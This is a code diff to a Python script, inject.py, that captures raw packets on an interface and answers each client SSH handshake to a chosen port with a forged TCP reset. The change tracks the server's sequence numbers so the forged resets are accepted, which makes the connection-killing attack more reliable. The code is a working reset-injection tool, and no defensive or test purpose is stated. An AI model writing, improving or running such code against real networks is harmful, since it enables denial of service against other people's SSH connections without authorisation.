@@ -3,8 +3,8 @@
 
 usage: inject.py INTERFACE PORT
 
-For each packet to PORT that begins with "SSH-" its sender gets a forged reset; the packet itself
-travels on.
+For each packet to PORT that begins with "SSH-" its sender gets a forged reset, numbered behind
+what the server has said by then; the packet itself travels on.
 """
 
 import socket
@@ -21,10 +21,19 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def forge(frame, link, at):
+def payload_length(frame, link, at):
+    """Short frames are padded: the IP header knows."""
+    (total,) = struct.unpack_from("!H", frame, 16 if link == 0x0800 else 18)
+    end = 14 + total + (0 if link == 0x0800 else 40)
+    return end - at - (frame[at + 12] >> 4) * 4
+
+
+def forge(frame, link, at, said):
     """The answer to a frame: its addresses turned round, a reset where the server would go on."""
     ports, (sequence, acknowledgement) = frame[at : at + 4], struct.unpack_from("!II", frame, at + 4)
-    length = len(frame) - at - (frame[at + 12] >> 4) * 4
+    length = payload_length(frame, link, at)
+    if said is not None and 0 < said - acknowledgement & 0xFFFFFFFF < 1 << 31:
+        acknowledgement = said
     tcp = ports[2:] + ports[:2] + struct.pack(
         "!IIBBHHH", acknowledgement, sequence + length & 0xFFFFFFFF, 0x50, RESET, 0, 0, 0
     )
@@ -42,16 +51,22 @@ def forge(frame, link, at):
 def main(interface, port):
     tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
     tap.bind((interface, 0))
+    said = {}  # by the client's port: where the server goes on
     print("in place", flush=True)
     while True:
         frame, (_, _, kind, *_) = tap.recvfrom(2048)
         (link,) = struct.unpack_from("!H", frame, 12)
         at = {0x0800: 34, 0x86DD: 54}.get(link)
-        if kind == socket.PACKET_OUTGOING or at is None or len(frame) < at + 20 or frame[23 if at == 34 else 20] != 6:
+        if at is None or len(frame) < at + 20 or frame[23 if at == 34 else 20] != 6:
+            continue
+        from_port, to_port, sequence = struct.unpack_from("!HHI", frame, at)
+        if from_port == int(port):
+            said[to_port] = sequence + payload_length(frame, link, at) & 0xFFFFFFFF
+        if kind == socket.PACKET_OUTGOING:
             continue
         words = frame[at + (frame[at + 12] >> 4) * 4 :]
-        if frame[at + 2 : at + 4] == int(port).to_bytes(2, "big") and words.startswith(b"SSH-"):
-            tap.send(forge(frame, link, at))
+        if to_port == int(port) and words.startswith(b"SSH-"):
+            tap.send(forge(frame, link, at, said.get(from_port)))
 
 
 main(*sys.argv[1:])
